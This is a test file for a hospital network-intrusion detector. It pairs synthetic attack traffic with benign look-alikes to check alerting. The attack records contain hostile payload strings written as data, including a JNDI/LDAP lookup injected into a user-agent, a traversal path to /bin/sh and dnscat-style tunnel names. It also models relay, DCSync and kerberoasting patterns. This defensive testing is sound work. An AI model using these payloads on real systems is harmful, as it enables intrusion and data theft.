"""Attempts on servers, writes to controllers, hidden ways out, images in bulk: each asks; its twin does not.

The captures of `cases/` in which real programs do the same are held by `test_incident_cases.py`.
"""

from __future__ import annotations

import pytest

from hinomi.watch import MaintenancePath
from hinomi.watch.severity import asks_a_person

ATTACKS = {}
TWINS = {}


def attack(detection):
    def keep(function):
        ATTACKS[f"{detection}:{function.__name__}"] = function
        return function

    return keep


def twin(function):
    TWINS[function.__name__] = function
    return function


def asking(house):
    return [draft for draft in house.run() if asks_a_person(draft.severity)]


def pc(h, n=11):
    return h.device(f"pc{n}", f"10.60.0.{n}", "workstation")


def admin(h):
    return h.device("adm", "10.80.0.5", "workstation")


def pacs(h):
    return h.device("pacs", "10.50.0.20", "pacs")


def plc(h):
    return h.device("ahu", "10.40.0.31", "plc")


# --- run("exploit_attempt")


@attack("exploit_attempt")
def a_lookup_in_the_name_of_a_browser(h):
    h.exchange("http", "GET", pc(h), h.device("web", "10.50.0.40", "web_server"), t=5, object="/login", status="200",
               detail={"user_agent": "${jndi:ldap://10.60.0.11/a}", "forms": "lookup", "forms_in": "user-agent"})  # fmt: skip


@attack("exploit_attempt")
def steps_above_the_folder_from_outside_that_were_answered(h):
    h.exchange("http", "GET", "203.0.113.77", h.device("vpn", "10.70.0.10", "vpn_gateway"), t=5, status="200",
               object="/remote/fgt_lang?lang={id}", detail={"forms": "up", "forms_in": "target"})  # fmt: skip


@attack("exploit_attempt")
def a_page_that_nobody_asks_for_but_by_a_known_weakness(h):
    h.exchange("http", "POST", pc(h), h.device("web", "10.50.0.40", "web_server"), t=5, status="404", outcome="failed",
               object="/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")  # fmt: skip


@attack("exploit_attempt")
def guesses_at_the_directory_servers_secret(h):
    a, k = pc(h), h.device("kdc", "10.50.0.42", "directory_server")
    for n in range(20):
        h.exchange("dcerpc", "bind", a, k, t=n * 0.2, object="netlogon",
                   detail={"interfaces": "netlogon", "calls": "2", "operations": "4,26"})  # fmt: skip


@attack("exploit_attempt")
def a_printing_program_put_on_a_server(h):
    a, s = pc(h), h.device("sv", "10.50.0.60", "server")
    h.exchange("dcerpc", "bind", a, s, t=2, object="spoolss",
               detail={"interfaces": "spoolss", "calls": "3", "operations": "69,89,29"})  # fmt: skip


@attack("exploit_attempt")
def old_file_sharing_taken_over(h):
    a, s = pc(h), h.device("us1", "10.20.0.31", "ultrasound")
    h.exchange("smb", "TRANS2_SESSION_SETUP", a, s, t=2, status="0xc0000002", outcome="failed")


@twin
def ordinary_logons_and_printing(h):
    k = h.device("kdc", "10.50.0.42", "directory_server")
    sv = h.device("sv", "10.50.0.60", "server")
    for n in range(30):  # each machine proves itself once, and looks at its printers
        a = pc(h, 20 + n)
        h.exchange("dcerpc", "bind", a, k, t=n, object="netlogon",
                   detail={"interfaces": "netlogon", "calls": "2", "operations": "4,26"})  # fmt: skip
        h.exchange("dcerpc", "bind", a, k, t=n, object="netlogon",
                   detail={"interfaces": "netlogon", "calls": "9", "operations": "39,45,29"})  # fmt: skip
        h.exchange("dcerpc", "bind", a, sv, t=n, object="spoolss",
                   detail={"interfaces": "spoolss", "calls": "5", "operations": "69,8,29,70"})  # fmt: skip


@twin
def all_the_world_knocks_and_is_refused(h):
    web = h.device("web", "10.70.0.20", "web_server")
    for n in range(40):
        h.exchange("http", "GET", f"203.0.113.{n + 1}", web, t=n * 60, object="/cgi-bin/../../bin/sh", status="400",
                   outcome="failed", detail={"forms": "up,shell", "forms_in": "target"})  # fmt: skip


@twin
def the_information_section_checks_its_own(h):
    h.exchange("http", "GET", admin(h), h.device("web", "10.50.0.40", "web_server"), t=5, object="/", status="200",
               detail={"forms": "lookup", "forms_in": "user-agent"})  # fmt: skip


# --- run("control_write")


@attack("control_write")
def an_office_computer_writes_to_the_air_of_a_theatre(h):
    h.exchange("modbus", "write registers", pc(h), plc(h), t=3, detail={"unit": "1", "address": "40", "quantity": "2"})


@attack("control_write")
def a_vendors_line_stops_a_controller(h):
    h.exchange("s7", "stop", h.device("v", "10.90.0.10", "maintenance_host"), plc(h), t=3)


@attack("control_write")
def a_name_is_set_on_a_switch(h):
    h.exchange("snmp", "set", pc(h), h.device("sw", "10.80.0.2", "switch"), t=3, object="1.3.6.1.2.1.1.5.0")


@attack("control_write")
def another_system_for_a_switch(h):
    h.exchange("tftp", "write", pc(h), h.device("sw", "10.80.0.2", "switch"), t=3, outcome="half_heard",
               object="image.bin", detail={"ending": "bin", "mode": "octet"})  # fmt: skip


@attack("control_write")
def firmware_by_a_page(h):
    h.exchange("http", "POST", pc(h), h.device("cam", "10.40.0.9", "camera"), t=3, object="/cgi-bin/upgrade_firmware.cgi",
               status="200", request_bytes=4_000_000)  # fmt: skip


@attack("control_write")
def somebody_new_in_the_plants_own_network(h):
    h.exchange("bacnet", "ReinitializeDevice", h.device("x", "10.40.0.77", ""), plc(h), t=3)


@twin
def the_plants_own_control_room(h):
    bms = h.device("bms", "10.40.0.5", "building_controller")
    for n in range(20):
        h.exchange("modbus", "write registers", bms, plc(h) if not n else "10.40.0.31", t=n * 30, detail={"unit": "1"})
        h.exchange("modbus", "read registers", pc(h, 30), "10.40.0.31", t=n * 30, detail={"unit": "1"})


@twin
def the_networks_managers_and_forms_on_pages(h):
    sw = h.device("sw", "10.80.0.2", "switch")
    h.exchange("snmp", "set", admin(h), sw, t=3, object="1.3.6.1.2.1.1.5.0")
    h.exchange("snmp", "get", pc(h), sw, t=4, object="1.3.6.1.2.1.1.5.0")
    h.exchange("tftp", "read", h.device("ph", "10.60.0.90", "ip_phone"), sw, t=5, object="phone.cfg")
    h.exchange("http", "POST", pc(h, 12), h.device("web", "10.50.0.40", "web_server"), t=6, request_bytes=900,
               object="/upgrade/ask", status="200")  # fmt: skip


# --- run("hidden_exit")


@attack("hidden_exit")
def coins(h):
    h.flow(pc(h), "198.51.100.30", 3333, "stratum", t=5, secs=600)


@attack("hidden_exit")
def tor_by_its_made_up_names(h):
    a = pc(h)
    h.dns(a, "www.kasumi-news.example", "198.51.100.80", t=1)
    h.flow(a, "198.51.100.31", 9001, "tls", t=5, sni="www.4gk67zpn3brh7qxg.com")
    h.flow(a, "198.51.100.32", 443, "tls", t=6, sni="www.e4od3hnssyu6g.com")


@attack("hidden_exit")
def names_asked_for_past_the_house(h):
    for n in range(5):
        h.flow(pc(h, 40 + n), "198.51.100.33", 443, "tls", t=n, sni="dns.google")


@attack("hidden_exit")
def a_shell_inside_pings(h):
    h.flow(pc(h), "10.50.0.30", 0, t=5, secs=200, proto="icmp", orig_port=8, orig_packets=75, resp_packets=48, up=7429,
           down=6693)  # fmt: skip


@attack("hidden_exit")
def pings_that_bring_back_more_than_they_took(h):
    h.flow(pc(h), "198.51.100.9", 0, t=5, secs=200, proto="icmp", orig_port=8, orig_packets=400, resp_packets=900,
           up=22_000, down=800_000)  # fmt: skip


@attack("hidden_exit")
def a_tunnel_of_ones_own(h):
    h.flow(pc(h), "198.51.100.9", 41641, "wireguard", t=5, secs=600, proto="udp", up=90_000, down=400_000)


@twin
def tunnels_that_are_known(h):
    box = h.device("vpn1", "10.70.0.2", "vpn_gateway")
    h.flow(box, "198.51.100.9", 1194, "openvpn", t=5, proto="udp", up=90_000, down=400_000)
    own = h.device("emr-gw", "10.50.0.70", "server")
    h.registers.append(MaintenancePath("p1", "Kaede", ("198.51.100.0/28",), (own.id,)))
    h.flow(own, "198.51.100.9", 1194, "openvpn", t=5, proto="udp", up=90_000, down=400_000)
    h.flow(pc(h), "198.51.100.77", 51820, "wireguard", t=6, proto="udp", up=148, down=92)  # a greeting
    guest = h.device("phone", "10.100.0.7", "mobile")
    h.flow(guest, "198.51.100.78", 51820, "wireguard", t=7, proto="udp", up=9000, down=9000)


@twin
def honest_pings(h):
    a, s = pc(h), h.device("gw", "10.60.0.1", "router")
    for n in range(50):  # a monitor, some of whose pings are lost
        lost = n % 3
        h.flow(a, s, 0, t=n, proto="icmp", orig_port=8, orig_packets=40, resp_packets=40 - lost, up=2400,
               down=2400 - 60 * lost)  # fmt: skip
    # One asks how large a packet may be: the large ones are lost.
    h.flow(a, s, 0, t=60, proto="icmp", orig_port=8, orig_packets=60, resp_packets=40, up=40 * 60 + 20 * 1480,
           down=40 * 60)  # fmt: skip


@attack("dns_tunnel")
def data_for_a_name_server_asked_straight(h):
    a = pc(h)
    for n in range(60):
        name = f"dnscat.{n:04x}01f500{(n * 7919) % 65536:04x}3522ef46.415{n:03d}5d3aa4bc1"
        h.dns(a, name, t=n, kind="TXT", server="198.51.100.5", status="NOERROR", outcome="ok")


@attack("dns_tunnel")
def a_program_looks_for_its_master(h):
    a = pc(h)
    letters = "bcdfghjklmnpqrstvwxzaeiou"
    for n in range(60):
        label = "".join(letters[(n * 31 + k * (7 + n % 5) + k * k) % len(letters)] for k in range(12))
        h.dns(a, f"{label}.{('com', 'net', 'biz', 'info')[n % 4]}", t=n * 20)


@twin
def names_that_a_filter_takes_away(h):
    a = pc(h)
    trackers = [
        "doubleclick.net", "scorecardresearch.com", "googlesyndication.com", "rubiconproject.com", "pubmatic.com",
        "openx.net", "criteo.com", "taboola.com", "outbrain.com", "amazon-adsystem.com", "adsrvr.org",
        "casalemedia.com", "bluekai.com", "quantserve.com", "moatads.com", "adform.net", "smartadserver.com",
        "bidswitch.net", "sharethrough.com", "teads.tv", "yieldmo.com", "media6degrees.com", "mathtag.com",
        "rlcdn.com", "crwdcntrl.net", "demdex.net", "everesttech.net", "tapad.com", "agkn.com", "exelator.com",
    ]  # fmt: skip
    for n, name in enumerate(trackers):
        h.dns(a, name, t=n * 5)
    mail = h.device("mail", "10.50.0.25", "mail_server")
    for n in range(80):  # who sends unwanted mail from where
        h.dns(mail, f"qxkvbnrtzw{n}.com", t=n, kind="MX")
    for n in range(60):
        h.dns(mail, f"{n}.2.0.192.list.example", t=n)


@twin
def ordinary_names(h):
    a = pc(h)
    for n, name in enumerate(("www.kasumi.com", "www.example.com", "www.sorairo.net")):
        h.dns(a, name, f"198.51.100.{60 + n}", t=n)
        h.flow(a, f"198.51.100.{60 + n}", 443, "tls", t=n + 1, sni=name, down=90_000)


@twin
def a_name_remembered_from_before_the_tap(h):
    a = pc(h)
    h.dns(a, "www.kasumi.com", "198.51.100.60", t=1)
    h.flow(a, "198.51.100.61", 443, "tls", t=2, sni="www.weather.com", down=90_000)


# --- run("ntlm_relay")

LOGIN = {"mechanism": "ntlm", "user": "H-1", "domain": "HOSPITAL", "host": "JIMU-PC2"}


@attack("ntlm_relay")
def a_login_is_passed_on(h):
    a, victim, s = pc(h), pc(h, 12), h.device("files", "10.50.0.30", "file_server")
    h.exchange("smb", "SESSION_SETUP", victim, s, t=1, detail=LOGIN)
    h.exchange("smb", "SESSION_SETUP", victim, a, t=600, detail=LOGIN)
    h.exchange("smb", "SESSION_SETUP", a, s, t=600.2, detail=LOGIN)


@attack("ntlm_relay")
def a_login_is_passed_on_to_the_directory(h):
    a, victim, s = pc(h), pc(h, 12), h.device("dc", "10.50.0.42", "directory_server")
    h.exchange("ldap", "bind", a, s, t=600, detail=LOGIN)
    h.exchange("smb", "SESSION_SETUP", victim, a, t=600.1, detail=LOGIN, outcome="refused", status="0xc0000022")


@twin
def one_account_at_many_places(h):
    a, victim, s = pc(h), pc(h, 12), h.device("files", "10.50.0.30", "file_server")
    term = h.device("term", "10.50.0.60", "server")
    for n, server in enumerate((s, term, a)):
        h.exchange("smb", "SESSION_SETUP", victim, server, t=n, detail=LOGIN)
    # The same person works on the terminal server, and there logs in at the share.
    h.exchange("smb", "SESSION_SETUP", term, s, t=9, detail=LOGIN | {"host": "TERM"})
    # Another day the computer has another address, and its old one is held by the terminal server.
    h.exchange("smb", "SESSION_SETUP", term, s, t=86_400, detail=LOGIN)


# --- run("program_fetched")


def fetched(h, host, path, *, to="198.51.100.66", kind="application/octet-stream", t=5.0, who=None, **more):
    h.exchange("http", "GET", who or pc(h), to, t=t, object=path, status="200",
               detail={"host": host, "response_content_type": kind} | more, response_bytes=90_000)  # fmt: skip


@attack("program_fetched")
def a_program_from_a_bare_number(h):
    fetched(h, "198.51.100.66", "/solar.php", body="program")


@attack("program_fetched")
def a_program_that_is_called_a_picture(h):
    fetched(h, "cdn.kasumi.example", "/tablone.png", kind="image/png", body="program")


@twin
def programs_from_those_who_are_known_and_by_name(h):
    a = pc(h)
    fetched(h, "download.windowsupdate.com", "/c/msdownload/update.exe", kind="application/x-msdownload",
            body="program", who=a)  # fmt: skip
    fetched(h, "dl.kasumi.example", "/setup.exe", body="program", who=a)  # somebody's own wish: a line in the list
    fetched(h, "198.51.100.66", "/logo.png", kind="image/png", who=a)
    fetched(h, "198.51.100.66", "/firmware.bin", who=a)
    update = h.device("wsus", "10.50.0.31", "update_server")
    fetched(h, "10.50.0.31", "/selfupdate/wuident.exe", to=update, body="program", who=a)


# --- run("image_haul")


@attack("image_haul")
def an_office_computer_takes_everything(h):
    a, p = h.device("x", "10.50.0.99", "server"), pacs(h)
    a.attributes["type"].value = "workstation"
    for n in range(15):
        h.exchange("dicom", "C-GET", a, p, t=n * 20, client_name="VIEWER9", patient=f"p{n}", detail={"study": f"s{n}"})


@attack("image_haul")
def the_archive_is_told_to_send_to_an_office_computer(h):
    a, p, ws = pc(h), pacs(h), h.device("view", "10.20.0.41", "dicom_workstation")
    h.exchange("dicom", "C-MOVE", ws, p, t=1, client_name="VIEW", detail={"destination": "TAKER", "study": "s1"})
    for n in range(4):
        h.exchange("dicom", "C-STORE", p, a, t=2 + n, client_name="PACS", server_name="TAKER", flow_id=900)


@attack("image_haul")
def calls_without_end(h):
    a, p = h.device("view", "10.20.0.41", "dicom_workstation"), pacs(h)
    for n in range(150):
        h.exchange("dicom", "A-ASSOCIATE", a, p, t=n * 0.2, client_name="VIEW", flow_id=1000 + n)


@twin
def a_morning_of_reading_and_scanning(h):
    p, ws = pacs(h), h.device("view", "10.20.0.41", "dicom_workstation")
    ct = h.device("ct", "10.20.0.11", "ct")
    for n in range(40):
        h.exchange("dicom", "A-ASSOCIATE", ws, p, t=n * 90, client_name="VIEW", flow_id=2000 + n)
        h.exchange("dicom", "C-MOVE", ws, p, t=n * 90 + 1, client_name="VIEW", flow_id=2000 + n, patient=f"p{n}",
                   detail={"destination": "VIEW", "study": f"s{n}"})  # fmt: skip
        h.exchange("dicom", "C-STORE", p, ws, t=n * 90 + 2, client_name="PACS", server_name="VIEW", flow_id=4000 + n)
    for n in range(300):  # a scanner that makes one call an image
        h.exchange("dicom", "A-ASSOCIATE", ct, p, t=5000 + n * 0.1, client_name="CT01", flow_id=6000 + n)
        h.exchange("dicom", "C-STORE", ct, p, t=5000 + n * 0.1, client_name="CT01", flow_id=6000 + n)


@twin
def a_new_archive_takes_over(h):
    p, new = pacs(h), h.device("pacs2", "10.50.0.21", "pacs")
    for n in range(200):
        h.exchange("dicom", "C-GET", new, p, t=n * 5, client_name="PACS2", patient=f"p{n}", detail={"study": f"s{n}"})


# --- steps sharpened elsewhere


@attack("remote_execution")
def a_program_is_brought_along_to_one_server(h):
    a, s = pc(h), h.device("sv", "10.50.0.60", "server")
    h.exchange("smb", "TREE_CONNECT", a, s, t=3, object="\\\\sv\\ADMIN$")
    h.exchange("smb", "CREATE", a, s, t=5, object="svcctl", detail={"share": "IPC$", "disposition": "open"})


@attack("remote_execution")
def a_task_is_written_by_a_session_older_than_the_tap(h):
    a, s = pc(h), h.device("ct", "10.20.0.11", "ct")
    h.exchange("smb", "CREATE", a, s, t=5, object="atsvc", detail={"disposition": "open"})


def called(h, who, to, interface, number, call, *, t=5.0, **more):
    h.exchange("dcerpc", "call", who, to, t=t, object=f"{interface}.{call}", status=more.pop("status", "0x00000000"),
               detail={"interface": interface, "call": call, "opnum": str(number), "calls": "1"} | more)  # fmt: skip


@attack("remote_execution")
def a_service_is_made_and_started(h):
    a, s = pc(h), pc(h, 12)
    called(h, a, s, "svcctl", 12, "CreateServiceW", name="HIxA", program="%systemroot%\\kQwZ.exe")
    called(h, a, s, "svcctl", 19, "StartServiceW", t=6)


@attack("remote_execution")
def a_task_is_written_over_tcp(h):
    called(h, pc(h), pc(h, 12), "ITaskSchedulerService", 1, "SchRpcRegisterTask")


@attack("exploit_attempt")
def one_proof_of_zeros(h):
    called(h, pc(h), h.device("dc", "10.50.0.42", "directory_server"), "netlogon", 26, "NetrServerAuthenticate3",
           zero_challenge="yes")  # fmt: skip


@attack("exploit_attempt")
def a_print_server_is_led_to_a_number(h):
    called(h, pc(h), h.device("prn", "10.50.0.60", "server"), "spoolss", 65, "RpcRemoteFindFirstPrinterChangeNotificationEx",
           points_to="10.60.0.11")  # fmt: skip


@attack("directory_attack")
def a_copy_of_the_directory_at_once(h):
    called(h, pc(h), h.device("dc", "10.50.0.42", "directory_server"), "drsuapi", 3, "DRSGetNCChanges")


@twin
def looks_at_services_and_ordinary_printing(h):
    a, s = pc(h), h.device("prn", "10.50.0.60", "server")
    for n, call in enumerate(("OpenSCManagerW", "EnumServicesStatusW", "QueryServiceStatus")):
        called(h, a, s, "svcctl", (15, 14, 6)[n], call, t=n)
    called(h, a, s, "spoolss", 65, "RpcRemoteFindFirstPrinterChangeNotificationEx", points_to="JIMU-PC11")
    called(h, a, h.device("dc", "10.50.0.42", "directory_server"), "netlogon", 26, "NetrServerAuthenticate3")
    deploy = h.device("wsus", "10.50.0.31", "update_server")
    called(h, deploy, a, "svcctl", 12, "CreateServiceW", name="Agent")


@twin
def shares_that_are_merely_hidden(h):
    a = pc(h)
    for n in range(6):
        f = h.device(f"files{n}", f"10.50.0.{n + 30}", "file_server")
        h.exchange("smb", "TREE_CONNECT", a, f, t=n, object=f"\\\\files{n}\\ward{n}$", detail={"share": f"ward{n}$"})


@twin
def a_program_fetched_from_one_machine(h):
    a, s = pc(h), pc(h, 12)
    h.exchange("smb", "TREE_CONNECT", a, s, t=5, object="\\\\pc12\\c$", detail={"share": "c$"})
    h.exchange("smb", "READ", a, s, t=6, object="temp\\tool.exe", detail={"share": "c$", "ending": "exe"})
    (found,) = h.run("lateral_movement")
    assert found.facts["variant"] == "carried" and found.severity == "low"


@twin
def a_look_at_one_servers_services(h):
    a, s = pc(h), h.device("sv", "10.50.0.60", "server")
    h.exchange("smb", "TREE_CONNECT", a, s, t=3, object="\\\\sv\\share")
    h.exchange("smb", "CREATE", a, s, t=5, object="svcctl", detail={"share": "IPC$", "disposition": "open"})


@attack("directory_attack")
def three_tickets_of_the_old_kind_by_choice(h):
    a, k = pc(h), h.device("kdc", "10.50.0.42", "directory_server")
    h.exchange(
        "kerberos", "AS", pc(h, 12), k, t=0, detail={"user": "u", "preauth": "2", "etype": "18", "etypes": "18,17"}
    )
    for n in range(4):
        h.exchange("kerberos", "TGS", a, k, t=n, object=f"MSSQL/s{n}",
                   detail={"service": f"MSSQL/s{n}", "etypes": "23", "etype": "23"})  # fmt: skip


@twin
def services_of_a_logon_and_an_old_scanner(h):
    k = h.device("kdc", "10.50.0.42", "directory_server")
    a, old = pc(h), h.device("us", "10.20.0.31", "ultrasound")
    for n in range(6):
        h.exchange("kerberos", "TGS", a, k, t=n, object=f"cifs/s{n}",
                   detail={"service": f"cifs/s{n}", "etypes": "18,17,23", "etype": "18"})  # fmt: skip
    for n in range(2):
        h.exchange("kerberos", "TGS", old, k, t=n, object=f"cifs/s{n}",
                   detail={"service": f"cifs/s{n}", "etypes": "23", "etype": "23"})  # fmt: skip


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_it_asks_a_person(house, name):
    ATTACKS[name](house)
    found = asking(house)
    assert name.split(":")[0] in {draft.detection for draft in found}, [(d.key, d.severity.value) for d in house.run()]
    assert len({draft.story for draft in found}) == 1, "one cause is one story"


@pytest.mark.parametrize("name", sorted(TWINS))
def test_twin_asks_nobody(house, name):
    TWINS[name](house)
    assert [(draft.key, draft.severity.value) for draft in asking(house)] == []
